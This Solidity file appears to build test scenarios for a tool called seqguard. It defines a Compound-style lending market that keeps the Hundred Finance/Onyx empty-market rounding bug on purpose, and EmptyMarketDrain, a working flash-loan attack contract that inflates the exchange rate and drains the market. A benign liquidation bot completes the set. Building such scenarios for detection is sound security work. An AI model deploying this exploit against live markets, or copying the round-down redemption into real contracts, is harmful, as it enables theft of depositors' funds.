// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20, IFlashBorrower} from "./Interfaces.sol";
import {Pair} from "./Amm.sol";
import {TokenVault} from "./TokenVault.sol";

/// A price in debt-token units per 1e18 units of `asset`, 1e18-scaled.
interface IAssetPriceOracle {
    function price(address asset) external view returns (uint256);
}

/// @title PostedPriceOracle: prices the team posts (a Chainlink-style feed).
contract PostedPriceOracle is IAssetPriceOracle {
    address public immutable owner;
    mapping(address => uint256) public price;

    constructor() {
        owner = msg.sender;
    }

    function post(address asset, uint256 value) external {
        require(msg.sender == owner, "PostedPriceOracle: owner only");
        price[asset] = value;
    }
}

/// @title PairSpotOracle: the spot price of a Pair's tokens in `quote`.
contract PairSpotOracle is IAssetPriceOracle {
    Pair public immutable pair;
    address public immutable quote;

    constructor(Pair pair_, address quote_) {
        (pair, quote) = (pair_, quote_);
    }

    function price(address asset) external view returns (uint256) {
        (uint256 r0, uint256 r1) = pair.getReserves();
        if (asset == quote) return 1e18;
        return pair.token0() == asset ? r1 * 1e18 / r0 : r0 * 1e18 / r1;
    }
}

/// @title RateMarket: a Compound-style market. Suppliers of the collateral token get
/// cTokens (mint, redeem, redeemUnderlying at the exchange rate cash / supply) and may
/// borrow the debt token against them; liquidators repay up to half an unhealthy debt
/// and seize its cTokens with an 8% bonus.
/// @notice Written for seqguard's scenarios. BUG, the empty-market rounding of Hundred
/// Finance (April 2023, about $7.4M) and Onyx Protocol (November 2023, about $2.1M): the
/// cash behind the exchange rate is the token balance, so a donation into an almost
/// empty market makes each cToken wei worth half of it; and `redeemUnderlying` rounds
/// the cTokens to burn down, so the holder of 2 wei takes out all but 1 wei of the cash
/// burning 1 wei, while the liquidity check still values the wei that is left at the old,
/// inflated rate. The debt borrowed against it is never repaid.
contract RateMarket {
    IERC20 public immutable underlying;
    IERC20 public immutable borrowToken;
    IAssetPriceOracle public immutable oracle;
    string public constant name = "Rate cToken";
    uint8 public constant decimals = 18;
    uint256 public constant COLLATERAL_FACTOR = 75; // percent
    uint256 public constant LIQUIDATION_BONUS = 108; // percent
    uint256 public constant CLOSE_FACTOR = 50; // percent

    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf; // cTokens
    mapping(address => uint256) public borrowBalance;
    uint256 public totalBorrows;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Mint(address indexed minter, uint256 amount, uint256 tokens);
    event Redeem(address indexed redeemer, uint256 amount, uint256 tokens);
    event Borrow(address indexed borrower, uint256 amount);
    event RepayBorrow(address indexed payer, address indexed borrower, uint256 amount);
    event LiquidateBorrow(address indexed liquidator, address indexed borrower, uint256 repaid,
        uint256 seizedTokens);

    constructor(IERC20 underlying_, IERC20 borrowToken_, IAssetPriceOracle oracle_) {
        (underlying, borrowToken, oracle) = (underlying_, borrowToken_, oracle_);
    }

    /// Underlying per cToken, 1e18-scaled. The bug's first half: cash is the balance.
    function exchangeRate() public view returns (uint256) {
        uint256 supply = totalSupply;
        return supply == 0 ? 1e18 : underlying.balanceOf(address(this)) * 1e18 / supply;
    }

    /// What `account`'s collateral allows it to owe, if it had `tokensLess` fewer cTokens,
    /// at the current exchange rate and price (Compound's hypothetical liquidity).
    function borrowLimit(address account, uint256 tokensLess) public view returns (uint256) {
        uint256 tokens = balanceOf[account] - tokensLess;
        uint256 underlyingAmount = tokens * exchangeRate() / 1e18;
        return underlyingAmount * oracle.price(address(underlying)) / 1e18 * COLLATERAL_FACTOR / 100;
    }

    function mint(uint256 amount) external returns (uint256 tokens) {
        tokens = amount * 1e18 / exchangeRate();
        require(tokens > 0, "RateMarket: zero tokens");
        require(underlying.transferFrom(msg.sender, address(this), amount));
        totalSupply += tokens;
        balanceOf[msg.sender] += tokens;
        emit Transfer(address(0), msg.sender, tokens);
        emit Mint(msg.sender, amount, tokens);
    }

    function redeem(uint256 tokens) external returns (uint256 amount) {
        amount = tokens * exchangeRate() / 1e18;
        _redeem(tokens, amount);
    }

    /// The bug's second half: the cTokens to burn round down (Compound rounds them up now).
    function redeemUnderlying(uint256 amount) external returns (uint256 tokens) {
        tokens = amount * 1e18 / exchangeRate();
        _redeem(tokens, amount);
    }

    function _redeem(uint256 tokens, uint256 amount) internal {
        require(
            borrowBalance[msg.sender] <= borrowLimit(msg.sender, tokens), "RateMarket: insufficient liquidity"
        );
        balanceOf[msg.sender] -= tokens;
        totalSupply -= tokens;
        emit Transfer(msg.sender, address(0), tokens);
        require(underlying.transfer(msg.sender, amount));
        emit Redeem(msg.sender, amount, tokens);
    }

    function borrow(uint256 amount) external {
        borrowBalance[msg.sender] += amount;
        totalBorrows += amount;
        require(borrowBalance[msg.sender] <= borrowLimit(msg.sender, 0), "RateMarket: insufficient liquidity");
        require(borrowToken.transfer(msg.sender, amount));
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        _repay(msg.sender, amount);
    }

    function _repay(address borrower, uint256 amount) internal {
        require(borrowToken.transferFrom(msg.sender, address(this), amount));
        borrowBalance[borrower] -= amount;
        totalBorrows -= amount;
        emit RepayBorrow(msg.sender, borrower, amount);
    }

    /// Repays up to half of an unhealthy `borrower`'s debt and takes its cTokens worth
    /// the repayment plus the bonus.
    function liquidate(address borrower, uint256 amount) external returns (uint256 seized) {
        require(borrower != msg.sender, "RateMarket: self-liquidation");
        require(borrowBalance[borrower] > borrowLimit(borrower, 0), "RateMarket: healthy");
        require(amount * 100 <= borrowBalance[borrower] * CLOSE_FACTOR, "RateMarket: too much");
        _repay(borrower, amount);
        uint256 value = amount * LIQUIDATION_BONUS / 100; // in the debt token
        seized = value * 1e18 / oracle.price(address(underlying)) * 1e18 / exchangeRate();
        balanceOf[borrower] -= seized;
        balanceOf[msg.sender] += seized;
        emit Transfer(borrower, msg.sender, seized);
        emit LiquidateBorrow(msg.sender, borrower, amount, seized);
    }
}

/// @title EmptyMarketDrain: the Hundred Finance attack on a RateMarket whose market for
/// the collateral is empty.
/// @notice Written for seqguard's scenarios: flash-borrow the collateral token, mint a
/// little and redeem all but 2 wei of cTokens, donate the loan to the market, borrow the
/// debt token against the 2 wei, take the donation back with `redeemUnderlying` (which
/// burns only 1 wei), repay the loan and keep what was borrowed. Reverts unless the debt
/// token it keeps is worth more, at the oracle's price, than the collateral it spent.
contract EmptyMarketDrain is IFlashBorrower {
    TokenVault public immutable lender;
    RateMarket public immutable market;
    address private immutable owner;

    constructor(TokenVault lender_, RateMarket market_) {
        (lender, market, owner) = (lender_, market_, msg.sender);
    }

    function run(uint256 loan, uint256 seed) external {
        require(msg.sender == owner, "EmptyMarketDrain: owner only");
        IERC20 col = market.underlying();
        IERC20 debt = market.borrowToken();
        uint256 colBefore = col.balanceOf(address(this));
        lender.flashLoan(loan, this, abi.encode(seed));
        uint256 spent = colBefore - col.balanceOf(address(this));
        uint256 gained = debt.balanceOf(address(this));
        require(
            gained > spent * market.oracle().price(address(col)) / 1e18, "EmptyMarketDrain: no profit"
        );
        require(debt.transfer(owner, gained));
        require(col.transfer(owner, col.balanceOf(address(this))));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata data) external {
        require(msg.sender == address(lender), "EmptyMarketDrain: lender only");
        uint256 seed = abi.decode(data, (uint256));
        IERC20 col = market.underlying();
        col.approve(address(market), seed);
        uint256 tokens = market.mint(seed);
        market.redeem(tokens - 2); // the market now holds 2 wei of cTokens, all ours
        require(col.transfer(address(market), amount)); // each wei is now worth half the loan
        uint256 room = market.borrowLimit(address(this), 1); // what 1 wei will still cover
        uint256 cash = market.borrowToken().balanceOf(address(market));
        market.borrow(room < cash ? room : cash);
        market.redeemUnderlying(col.balanceOf(address(market)) - 1); // burns 1 wei, not 2
        require(col.transfer(address(lender), amount + fee));
    }
}

/// @title LiquidationBot: a keeper's contract that liquidates a RateMarket borrower and
/// redeems the seized cTokens in one transaction.
/// @notice The benign twin of the market attacks, written for seqguard's scenarios: it
/// pays the debt token in from its owner's approval and sends the collateral home.
contract LiquidationBot {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function liquidate(RateMarket market, address borrower, uint256 amount) external {
        require(msg.sender == owner, "LiquidationBot: owner only");
        IERC20 debt = market.borrowToken();
        require(debt.transferFrom(owner, address(this), amount));
        debt.approve(address(market), amount);
        uint256 seized = market.liquidate(borrower, amount);
        market.redeem(seized);
        IERC20 col = market.underlying();
        uint256 got = col.balanceOf(address(this));
        uint256 worth = got * market.oracle().price(address(col)) / 1e18;
        require(worth > amount, "LiquidationBot: unprofitable");
        require(col.transfer(owner, got));
    }
}
